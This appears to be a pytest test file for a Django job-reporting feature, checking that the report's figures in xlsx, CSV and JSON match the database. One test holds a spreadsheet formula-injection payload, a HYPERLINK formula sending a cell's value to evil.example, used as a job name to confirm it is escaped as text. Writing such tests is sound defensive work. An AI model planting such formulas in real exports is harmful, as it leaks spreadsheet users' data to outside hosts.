"""The report: its numbers agree with the database in every format."""

import json
import statistics
from datetime import datetime, timedelta

import pytest
from django.db import connection
from django.utils import timezone

from jobs.engine.worker.execution import execute
from jobs.models import Job, Status
from tests.support.factories import make_job
from tests.types.reports import (
    MARCH,
    NOON,
    csv_rows,
    figures,
    job_that_ran,
    launched,
    run_report,
    sheet_rows,
    workbook,
)

pytestmark = pytest.mark.django_db(transaction=True, databases=["default", "worker"])


@pytest.fixture
def jobs_of_march():
    for seconds in range(1, 21):
        job_that_ran(seconds, wait=seconds / 10, day=seconds % 3)
    job_that_ran(300, type="export", name="The slow one")
    for _ in range(3):
        job_that_ran(
            5, day=5, status=Status.FAILED, error_type="KeyError", error_message="no such key"
        )
    job_that_ran(7, status=Status.FAILED, error_code="worker_lost", error_type="")
    make_job(status=Status.CANCELLED, created_at=NOON, finished_at=NOON)


def one_value(sql):
    with connection.cursor() as cursor:
        cursor.execute(sql)
        return cursor.fetchone()[0]


def test_a_report_without_params_counts_the_jobs_of_the_last_week():
    make_job(status=Status.COMPLETED)
    make_job(created_at=timezone.now() - timedelta(days=8))
    outcome, files = run_report()
    assert outcome.status == Status.COMPLETED, outcome.error_traceback
    assert outcome.result["by_status"] == {"COMPLETED": 1, "PROCESSING": 1}
    assert [name.rpartition(".")[2] for name in files] == ["xlsx"]


def test_the_result_is_the_totals(jobs_of_march):
    outcome, _ = run_report(**MARCH)
    waits = sorted([*(s / 10 for s in range(1, 21)), 1, 1, 1, 1, 1])
    runs = sorted([*range(1, 21), 300, 5, 5, 5, 7])
    assert outcome.result == {
        "jobs": 26,
        "success_percent": round(100 * 21 / 25, 1),
        "p50_wait_seconds": pytest.approx(statistics.median(waits)),
        "p95_wait_seconds": pytest.approx(percentile_95(waits), abs=0.001),
        "p50_run_seconds": statistics.median(runs),
        "p95_run_seconds": pytest.approx(percentile_95(runs), abs=0.001),
        "by_status": {"COMPLETED": 21, "FAILED": 4, "CANCELLED": 1},
    }


def percentile_95(values):
    return statistics.quantiles(values, n=20, method="inclusive")[-1]


def test_the_workbook_opens_and_its_numbers_are_those_of_sql(jobs_of_march):
    _, files = run_report(**MARCH)
    by_type = {row["Type"]: row for row in sheet_rows(files, "By type")}
    march = "FROM jobs_job WHERE created_at >= '2026-03-01' AND created_at < '2026-04-01'"
    assert by_type.keys() == {"report", "export"}
    for type, row in by_type.items():
        of_type = f"{march} AND type = '{type}'"
        assert row["Jobs"] == one_value(f"SELECT count(*) {of_type}")
        assert row["Failed"] == one_value(f"SELECT count(*) {of_type} AND status = 'FAILED'")
        median = "percentile_cont(0.5) WITHIN GROUP (ORDER BY finished_at - started_at)"
        seconds = one_value(f"SELECT extract(epoch FROM {median})::float8 {of_type}")
        assert row["Median run (s)"] == seconds


def test_every_day_from_the_first_to_the_last_has_a_row(jobs_of_march):
    _, files = run_report(**MARCH)
    rows = sheet_rows(files, "By day")
    assert [row["Day"].day for row in rows] == [10, 11, 12, 13, 14, 15]
    assert [row["Jobs"] for row in rows] == [9, 7, 7, 0, 0, 3]
    assert rows[3]["Success share"] is None


def test_a_day_begins_at_the_sites_midnight(settings):
    settings.TIME_ZONE = "Pacific/Auckland"  # 13 hours ahead in March
    job_that_ran(1)
    _, files = run_report(**MARCH)
    assert sheet_rows(files, "By day")[0]["Day"] == datetime(2026, 3, 11)
    assert sheet_rows(files, "Slowest jobs")[0]["Created (UTC)"] == datetime(2026, 3, 10, 12)


def test_the_slowest_job_comes_first(jobs_of_march):
    _, files = run_report(**MARCH)
    rows = sheet_rows(files, "Slowest jobs")
    assert (rows[0]["Name"], rows[0]["Run (s)"]) == ("The slow one", 300)
    assert len(rows) == 20


def test_failures_are_counted_by_error_with_the_last_message(jobs_of_march):
    _, files = run_report(**MARCH)
    first, second = sheet_rows(files, "Failures by error")
    by_key = [first[column] for column in ("Error type", "Jobs", "Its message")]
    assert by_key == ["KeyError", 3, "no such key"]
    assert (second["Error code"], second["Jobs"]) == ("worker_lost", 1)


def test_the_workbook_shows_the_days_as_a_native_chart(jobs_of_march):
    _, files = run_report(**MARCH)
    [chart] = workbook(files)["Summary"]._charts
    assert [series.tx.v for series in chart.series] == [status.label for status in Status]
    assert chart.series[2].val.numRef.f == "'By day'!$E$2:$E$7"


def test_csv_and_json_agree(jobs_of_march):
    _, tables = run_report(**MARCH, format="csv", list_jobs=True)
    _, files = run_report(**MARCH, format="json", list_jobs=True)
    told = figures(files)
    for section in ("by_status", "by_type", "by_day", "slowest", "failures"):
        as_text = [
            {name: "" if value is None else str(value) for name, value in row.items()}
            for row in told[section]
        ]
        assert csv_rows(tables, section) == as_text
    assert {name: str(value) for name, value in told["totals"].items()} == csv_rows(
        tables, "totals"
    )[0]
    listed = [
        json.loads(line)
        for line in next(b for n, b in files.items() if n.endswith("jsonl")).splitlines()
    ]
    assert [row["id"] for row in csv_rows(tables, "jobs")] == [row["id"] for row in listed]


def test_a_chosen_type_leaves_the_others_out(jobs_of_march):
    outcome, _ = run_report(**MARCH, types=["report"])
    assert outcome.result["jobs"] == 25


def test_an_empty_period_gives_a_report_of_nothing():
    outcome, files = run_report(
        since="2001-01-01T00:00:00Z", until="2001-01-02T00:00:00Z", list_jobs=True
    )
    assert outcome.result["jobs"] == 0
    assert outcome.result["success_percent"] is None
    assert workbook(files)["Jobs"].max_row == 1


def test_the_jobs_sheet_lists_every_job_by_age(jobs_of_march):
    _, files = run_report(**MARCH, list_jobs=True)
    rows = sheet_rows(files, "Jobs")
    created = Job.objects.filter(created_at__lt=NOON + timedelta(days=9)).order_by("id")
    assert [row["Id"] for row in rows] == [str(job.id) for job in created]
    # Ids of one moment are in no order, and one of these jobs was cancelled before it began.
    row, first = next(pair for pair in zip(rows, created, strict=True) if pair[1].started_at)
    assert row["Wait (s)"] == (first.started_at - first.created_at).total_seconds()
    assert row["Created (UTC)"] == datetime(2026, 3, 10, 12)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_name_that_begins_like_a_formula_is_text_in_csv_and_xlsx(start):
    name = f'{start}HYPERLINK("http://evil.example/?"&A1, "click")'
    job_that_ran(1, name=name, status=Status.FAILED, error_message=name)
    _, files = run_report(**MARCH, list_jobs=True)
    for sheet in workbook(files):
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert sheet_rows(files, "Jobs")[0]["Name"].startswith("'")
    _, tables = run_report(**MARCH, format="csv", list_jobs=True)
    assert csv_rows(tables, "jobs")[0]["name"] == f"'{name}"
    assert csv_rows(tables, "failures")[0]["last_message"] == f"'{name}"


@pytest.mark.parametrize(
    "name", ["<r><t>x</r>", "]]>&<a>", "_x0041_", "\x1b[31m\x07", "\ufffe\uffff"]
)
def test_a_name_made_of_xml_leaves_the_workbook_whole(name):
    job_that_ran(1, name=name)
    _, files = run_report(**MARCH, list_jobs=True)
    assert len(sheet_rows(files, "Jobs")) == 1


def test_a_list_that_was_cut_says_so(jobs_of_march, monkeypatch):
    monkeypatch.setattr("jobs.types.report.formats.LISTED_JOBS", 25)
    _, files = run_report(**MARCH, list_jobs=True)
    said = [row[0] for row in workbook(files)["Summary"].values]
    assert "Only the first 25 jobs are listed." in said


def test_a_report_that_is_told_to_stop_writes_no_file():
    job = launched(**MARCH)
    Job.objects.filter(id=job.id).update(cancel_requested_at=timezone.now())
    assert execute(job).status == Status.CANCELLED
    assert not job.files.exists()


def test_the_log_tells_what_the_report_covers():
    job = launched(**MARCH)
    execute(job)
    period = "from 2026-03-01 00:00:00 UTC until before 2026-04-01 00:00:00 UTC"
    assert job.logs.first().message == f"Covers all jobs created {period}."


def test_progress_tells_the_section_and_the_row(monkeypatch):
    told = []
    monkeypatch.setattr(
        "jobs.handler.context.journal.write_progress",
        lambda *a, percent, message, **k: told.append((percent, message)),
    )
    monkeypatch.setattr("jobs.handler.context.WRITE_EVERY_SECONDS", 0)
    run_report(**MARCH, list_jobs=True)
    assert [message for _, message in told] == [
        "Totals",
        "By status",
        "By type",
        "By day",
        "Slowest jobs",
        "Failures by error",
        "Packing the file",
        "The report is written.",
    ]
